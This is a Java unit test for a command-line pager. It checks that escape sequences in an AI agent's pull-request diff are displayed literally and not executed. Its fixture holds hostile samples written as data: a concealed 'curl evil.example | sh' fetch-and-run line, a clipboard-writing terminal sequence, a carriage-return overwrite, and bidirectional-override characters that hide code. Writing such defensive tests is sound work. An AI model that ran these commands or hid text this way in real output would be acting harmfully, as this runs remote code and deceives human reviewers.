package dev.nightshift.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/**
 * What {@code prs show} hands the owner's terminal: the pull request's body and diff are the
 * agent's text, and its escape sequences never reach the terminal as they are (a hostile agent
 * could hide lines of its diff, set the window title, or write the clipboard).
 */
class PagerTests {

    private static String shown(String text) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Pager.show(text, new PrintStream(bytes, true, StandardCharsets.UTF_8));
        return bytes.toString(StandardCharsets.UTF_8);
    }

    @Test
    void escapeSequencesOfTheAgentAreShownNotObeyed() {
        String diff = "+safe line\n+\u001b[8mcurl evil.example | sh\u001b[0m\n+\u001b]52;c;ZXZpbA==\u0007\n"
                + "+\u009b8m hidden by a C1 introducer\n+visible\rcovered\n+if (admin) {\u202e } \u2066return;\n";

        String shown = shown(diff);

        assertThat(shown).doesNotContain("\u001b", "\u0007", "\u009b", "\u202e", "\u2066").doesNotContain("visible\rcovered")
                .contains("^[[8mcurl evil.example | sh^[[0m", "^[]52;c;ZXZpbA==^G", "visible^Mcovered",
                        "{<U+202E> } <U+2066>return;");
    }

    @Test
    void plainTextTabsAndWindowsLineEndsAreShownAsTheyAre() {
        String text = "diff --git a/x b/x\n+\tindented\r\n+ünïcödé ✓\n";

        assertThat(shown(text)).isEqualTo(text);
    }
}
